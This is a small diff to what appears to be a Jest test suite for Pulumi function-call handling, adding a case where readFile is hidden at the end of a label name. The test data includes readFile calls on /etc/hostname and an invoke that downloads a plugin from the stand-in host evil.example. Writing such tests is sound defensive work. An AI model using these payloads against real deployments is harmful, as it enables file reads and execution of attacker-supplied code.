@@ -13,6 +13,8 @@ jest.setTimeout(engineTimeout);
 const calls = [
   { "fn::readFile": "/etc/hostname" },
   { labels: { "FN::ReadFile": "/etc/hostname" } },
+  // Pulumi also searches a function at the end of a name.
+  { labels: { "a Fn::std:index:readFile": { input: "/etc/hostname" } } },
   {
     labels: [
       [{ "fn::invoke": { function: "evil:index:run", options: { pluginDownloadURL: "https://evil.example" } } }],
